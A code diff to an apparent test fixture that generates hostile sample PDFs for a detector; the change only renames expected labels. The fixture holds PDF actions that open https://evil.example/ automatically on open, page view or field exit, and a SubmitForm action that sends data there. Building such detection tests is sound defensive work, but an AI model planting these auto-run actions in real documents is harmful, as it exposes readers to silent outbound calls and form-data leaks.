@@ -265,17 +265,17 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
       '<</S/Thread/F(other.pdf)/D 0>>',
       '<</S/GoTo/D[2 0 R/Fit]/Next[<</S/Named/N/NextPage>><</S/URI/URI(https://evil.example/)>>]>>',
     ].flatMap((action) => [
-      pdfWith(`${action} when it opens`, 'by itself', `<</OpenAction ${action}>>`),
-      pdfWith(`${action} when a page is shown`, 'by itself', `<</Type/Page/AA<</O ${action}>>>>`),
+      pdfWith(`${action} when it opens`, 'on its own', `<</OpenAction ${action}>>`),
+      pdfWith(`${action} when a page is shown`, 'on its own', `<</Type/Page/AA<</O ${action}>>>>`),
     ]),
     pdfWith(
       'an address after a page, each in an object of its own',
-      'by itself',
+      'on its own',
       '<</OpenAction 4 0 R>>\nendobj\n4 0 obj\n<</S/GoTo/D[2 0 R/Fit]/Next 5 0 R>>\nendobj\n5 0 obj\n[4 0 R 6 0 R]\nendobj\n6 0 obj\n<</S/URI/URI(https://evil.example/)>>',
     ),
     pdfWith(
       'an address when a field is left, in a table of its own',
-      'by itself',
+      'on its own',
       '<</FT/Tx/T(name)/AA 4 0 R>>\nendobj\n4 0 obj\n<</Bl 5 0 R>>\nendobj\n5 0 obj\n<</S/URI/URI(https://evil.example/)>>',
     ),
     pdfWith(
@@ -329,7 +329,7 @@ export async function hostileDocuments(): Promise<HostileDocument[]> {
     ),
     pdfWith('a form that sends', 'sends or loads data', '<</S/SubmitForm/F(https://evil.example/)>>'),
     pdfWith('a form that loads', 'sends or loads data', '<</S/ImportData/F(data.fdf)>>'),
-    pdfWith('a film', 'contains film', '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'),
+    pdfWith('a film', 'contains video', '<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>'),
     pdfWith(
       'a document on a network drive',
       'on a network drive',
